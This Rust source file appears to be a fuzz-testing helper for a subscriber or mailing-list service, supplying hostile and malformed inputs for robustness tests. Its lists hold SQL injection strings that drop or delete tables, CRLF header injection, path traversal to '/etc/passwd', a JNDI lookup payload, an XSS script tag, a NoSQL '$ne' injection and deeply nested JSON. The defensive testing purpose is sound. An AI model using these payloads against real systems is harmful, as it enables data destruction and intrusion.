//! What attackers put where something else belongs.

use rand::RngExt;
use rand::rngs::StdRng;
use rand::seq::IndexedRandom;
use serde_json::{Value, json};

/// Statements that would change the data if they got into one.
pub const SQL: &[&str] = &[
    "'; DROP TABLE subscribers; --",
    "' OR '1'='1",
    "1; DELETE FROM lists",
    "\"; UPDATE subscribers SET status = 'bounced'; --",
    "') ON CONFLICT DO NOTHING; DROP TABLE requests; --",
    "?1', $1, :name, @p",
    "%' OR name LIKE '%",
    "\\'; VACUUM; --",
];

/// What would add a line to a header or a log.
pub const LINES: &[&str] = &[
    "a\r\nX-Injected: 1",
    "a\nb",
    "a\rb",
    "\r\n\r\n{}",
    "a\u{2028}b",
    "a\u{85}b",
    "\u{1b}[31mred",
    "a\u{0}b",
];

/// What is not what it looks like, or is where it should not be.
pub const TEXTS: &[&str] = &[
    "",
    " ",
    "null",
    "undefined",
    "NaN",
    "-1",
    "../../../etc/passwd",
    "..\\..\\windows",
    "{{7*7}}",
    "{data.email}",
    "${jndi:ldap://x/a}",
    "<script>alert(1)</script>",
    "\u{202e}evil",
    "\u{feff}bom",
    "\u{fffe}",
    "e\u{301}\u{301}",
    "😀",
    "a@b",
    "@",
    "a@b@c.example.com",
    "\"a b\"@example.com",
    "a@[127.0.0.1]",
    "a@example.com\u{0}",
    "a@-.com",
    "%00",
    "%s%n",
];

/// Numbers as they may stand in JSON, though no field is made for them.
pub const NUMBERS: &[&str] = &[
    "-1",
    "0",
    "-0",
    "1e400",
    "-1e400",
    "1e-400",
    "9223372036854775808",
    "-9223372036854775809",
    "18446744073709551616",
    "0.1",
    "1E+2",
    "123456789012345678901234567890.123456789012345678901234567890",
];

/// A value of a type or a size that a field is not made for.
pub fn value(random: &mut StdRng) -> Value {
    match random.random_range(0..14) {
        0 => Value::Null,
        1 => json!(true),
        2 => json!(random.random_range(-5..5)),
        3 => json!(i64::MAX),
        4 => json!(1.5e300),
        5 => json!([]),
        6 => json!({}),
        7 => json!([[[[null]]]]),
        8 => json!({"a": {"b": {"$ne": 1}}}),
        9 => json!(vec![json!("x"); random.random_range(100..2_000)]),
        10 => json!("x".repeat(random.random_range(500..100_000))),
        11 => json!(LINES.choose(random).unwrap()),
        12 => json!(SQL.choose(random).unwrap()),
        _ => json!(TEXTS.choose(random).unwrap()),
    }
}

/// Text that is no JSON, or too much of it.
pub fn broken_json(random: &mut StdRng, whole: &str) -> Vec<u8> {
    let depth = [150, 1_000, 50_000][random.random_range(0..3)];
    match random.random_range(0..12) {
        0 => whole.as_bytes()[..random.random_range(0..whole.len() - 1)].to_vec(),
        1 => "[".repeat(depth).into_bytes(),
        2 => format!("{}1{}", "[".repeat(depth), "]".repeat(depth)).into_bytes(),
        3 => format!("{}1{}", r#"{"data":"#.repeat(depth), "}".repeat(depth)).into_bytes(),
        4 => br#"{"data": {"email": "a@example.com", "first_name": "\xff\xfe"}}"#.to_vec(),
        5 => b"{\"data\": {\"email\": \"a@example.com\", \"first_name\": \"\xed\xa0\x80\"}}".to_vec(),
        6 => br#"{"data": {"email": "a@example.com", "first_name": "\ud800"}}"#.to_vec(),
        7 => br#"{"data": {"email": "a@example.com", "first_name": "\udc00\ud800x"}}"#.to_vec(),
        8 => b"{\"data\": {\"email\": \"a\0@example.com\"}}".to_vec(),
        9 => format!("{whole}{whole}").into_bytes(),
        10 => format!("\u{feff}\u{feff}{whole}").into_bytes(),
        _ => [b"{\"data\": \"" as &[u8], &random.random::<[u8; 16]>(), b"\x01\"}"].concat(),
    }
}
